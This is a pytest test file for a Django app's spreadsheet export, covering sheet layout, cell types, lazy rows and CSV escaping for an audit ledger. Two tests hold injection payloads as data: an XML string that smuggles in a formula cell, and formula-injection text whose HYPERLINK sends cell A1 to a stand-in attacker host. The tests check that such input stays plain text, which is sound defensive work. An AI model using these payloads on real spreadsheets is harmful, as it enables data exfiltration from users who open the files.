"""npc_tracker.spreadsheets on its own: the layout of every sheet, cell types, text that must stay text, rows read
lazily and in order, and the CSV lines."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.db import models

from npc_tracker.spreadsheets import FORMULA_START, Sheet, csv_lines, write_workbook

HEADER = ["编号", "名称", "金额", "日期", "时间"]
# Typed by a user: XlsxWriter would copy text of the form <r>…</r> into the file as XML, and this closes the cell
# and adds a formula cell of its own.
RICH_STRING_PAYLOAD = ('<r><t>a</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil.example","x")</f></c>'
                       '<c r="Z10" t="inlineStr"><is><r><t>b</t></r>')


class Colour(models.TextChoices):
    RED = "red", "红"


def workbook_of(*sheets: Sheet, heading="审计查出问题整改台账", as_of="截至 2026-06-10"):
    output = write_workbook(sheets, heading=heading, as_of=as_of)
    with output:
        assert output.tell() == 0  # ready to stream
        content = output.read()
    return openpyxl.load_workbook(io.BytesIO(content)), content


def widths(sheet) -> list[int]:
    """Column widths in characters: XlsxWriter stores them as Excel does, with the cell padding (12.71), and
    neighbours of the same width as one range."""
    by_column = {}
    for dimension in sheet.column_dimensions.values():
        for column in range(dimension.min, dimension.max + 1):
            by_column[column] = int(dimension.width)
    return [by_column[column] for column in sorted(by_column)]


def test_each_sheet_has_the_heading_the_as_of_line_the_header_a_filter_and_the_print_setup():
    rows = [[1, "违规发放津贴补贴", Decimal("120.50"), date(2026, 3, 1), datetime(2026, 6, 1, 9, 30, 15)],
            [2, "专项资金闲置", 80, None, None]]
    workbook, _ = workbook_of(Sheet("问题", HEADER, rows, widths=[6, 40, 12, 12, 17]),
                              Sheet("空表", ["甲"], [], heading="另一标题"))
    sheet, empty = workbook.worksheets
    assert [sheet.title, empty.title] == ["问题", "空表"]
    assert (sheet["A1"].value, sheet["A2"].value) == ("审计查出问题整改台账", "截至 2026-06-10")
    assert sheet["A1"].font.b
    assert {"A1:E1", "A2:E2"} <= {str(merged) for merged in sheet.merged_cells.ranges}
    assert [cell.value for cell in sheet[3]] == HEADER
    header = sheet["B3"]
    assert header.font.b
    assert header.alignment.wrap_text
    assert header.fill.fgColor.rgb.endswith("F2DCDB")
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:E5"
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert "审计查出问题整改台账  截至 2026-06-10" in sheet.oddFooter.left.text
    assert widths(sheet) == [6, 40, 12, 12, 17]
    # A sheet of one column has nothing to merge; one without rows still has its header and filter.
    assert (empty["A1"].value, empty["A2"].value, empty["A3"].value) == ("另一标题", "截至 2026-06-10", "甲")
    assert empty.auto_filter.ref == "A3"
    assert empty.max_row == 3


def test_cells_keep_their_types():
    shanghai_morning = datetime(2026, 6, 1, 1, 30, tzinfo=UTC)  # 09:30 in Shanghai, the current time zone
    rows = [[1, "文本", Decimal("120.50"), date(2026, 3, 1), datetime(2026, 6, 1, 9, 30, 15)],
            [-2.5, "", None, True, shanghai_morning],
            [Colour.RED, 3, Decimal("0.1"), date(2026, 3, 2), None]]
    workbook, _ = workbook_of(Sheet("类型", HEADER, rows))
    cells = {cell.coordinate: cell for row in workbook.active.iter_rows(min_row=4) for cell in row}
    assert (cells["A4"].data_type, cells["A4"].value) == ("n", 1)
    assert (cells["C4"].data_type, cells["C4"].value) == ("n", 120.5)
    assert cells["D4"].is_date
    assert cells["D4"].number_format == "yyyy-mm-dd"
    assert cells["D4"].value == datetime(2026, 3, 1)
    assert cells["E4"].is_date
    assert cells["E4"].number_format == "yyyy-mm-dd hh:mm"
    assert cells["E4"].value == datetime(2026, 6, 1, 9, 30, 15)
    assert cells["A5"].value == -2.5
    assert cells["B5"].value is None
    assert cells["C5"].value is None
    assert (cells["D5"].data_type, cells["D5"].value) == ("b", True)
    assert cells["E5"].value == datetime(2026, 6, 1, 9, 30)  # an aware time in the current time zone
    assert (cells["A6"].data_type, cells["A6"].value) == ("s", "red")  # a str subclass: its text


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_that_starts_like_a_formula_is_a_text_cell_that_stays_text(start):
    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    workbook, content = workbook_of(Sheet("公式", ["文本"], [[text]]))
    cell = workbook.active["A4"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    # XlsxWriter writes a control character as Excel's _xHHHH_ escape, which Excel reads back and openpyxl does not.
    assert openpyxl.utils.escape.unescape(cell.value) == text
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_text_shaped_like_xlsxwriters_rich_string_xml_is_written_as_text_not_as_xml():
    plain = "<r>人大</r>"
    workbook, content = workbook_of(Sheet("注入", ["文本", "其后"], [[RICH_STRING_PAYLOAD, "下一格"], [plain, None]]))
    sheet = workbook.active
    assert (sheet["A4"].data_type, sheet["A4"].value) == ("s", RICH_STRING_PAYLOAD)
    assert sheet["B4"].value == "下一格"
    assert sheet["A5"].value == plain
    assert sheet["Z9"].value is None
    assert sheet["Z10"].value is None
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_rows_are_read_once_in_order_and_a_sheet_after_the_one_before_it():
    read = []

    def rows(name, count):
        for n in range(count):
            read.append((name, n))
            yield [n]

    seen_when_second_starts = []

    def second():
        seen_when_second_starts.extend(read)
        yield from rows("second", 2)

    workbook, _ = workbook_of(Sheet("一", ["n"], rows("first", 3)), Sheet("二", ["n"], second()))
    assert read == [("first", 0), ("first", 1), ("first", 2), ("second", 0), ("second", 1)]
    assert seen_when_second_starts == [("first", 0), ("first", 1), ("first", 2)]
    assert [row[0] for row in workbook.worksheets[0].iter_rows(min_row=4, values_only=True)] == [0, 1, 2]


def test_a_sheet_refuses_widths_that_do_not_match_its_columns():
    with pytest.raises(ValueError, match="2 widths for 3 columns"):
        Sheet("表", ["甲", "乙", "丙"], [], widths=[10, 20])
    with pytest.raises(ValueError, match="no columns"):
        Sheet("表", [], [])


def test_an_error_while_reading_the_rows_propagates():
    def rows():
        yield [1]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError, match="went away"):
        write_workbook([Sheet("表", ["甲"], rows())], heading="标题", as_of="截至")


def test_csv_lines_have_a_bom_text_after_an_apostrophe_when_it_looks_like_a_formula_and_times_to_the_minute():
    rows = [[1, "=1+1", Decimal("120.50"), date(2026, 3, 1), datetime(2026, 6, 1, 9, 30, 15, 123456)],
            [-2, "普通文本", None, None, datetime(2026, 6, 1, 1, 30, 59, 999999, tzinfo=UTC)]]
    content = "".join(csv_lines(HEADER, rows))
    assert content.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(content.lstrip("\ufeff")))) == [
        HEADER,
        ["1", "'=1+1", "120.50", "2026-03-01", "2026-06-01 09:30"],
        ["-2", "普通文本", "", "", "2026-06-01 09:30"],  # a negative number is no formula; aware: Shanghai time
    ]
